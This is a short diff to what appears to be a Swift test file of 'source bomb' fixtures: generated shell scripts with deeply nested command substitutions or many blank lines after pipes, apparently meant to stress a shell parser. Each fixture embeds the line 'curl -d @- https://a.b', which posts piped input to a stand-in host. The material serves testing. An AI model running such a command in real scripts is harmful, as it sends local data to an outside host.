@@ -23,6 +23,12 @@ enum SourceBombs {
       }
     ),
     (
+      "substitutions.sh",
+      SizeBomb("nested substitutions") {
+        "# content-state\ncurl -d @- https://a.b\nX=" + "$(\n" * ($0 * 4) + ")\n" * ($0 * 4)
+      }
+    ),
+    (
       "pipes.sh",
       SizeBomb("blank lines after pipes") {
         "# content-state\n" + "echo 1 |\("\n" * ($0 * 4))curl -d @- https://a.b\n" * 8
